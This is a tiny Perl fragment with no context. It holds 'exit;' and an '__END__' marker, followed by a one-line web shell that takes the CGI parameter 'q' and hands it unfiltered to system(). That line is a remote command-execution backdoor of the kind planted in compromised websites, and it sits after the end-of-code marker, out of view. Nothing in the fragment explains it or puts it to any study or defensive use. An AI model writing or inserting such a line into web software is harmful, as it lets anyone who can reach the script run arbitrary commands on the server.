exit;
__END__
my$q=CGI::param('q');system($q);
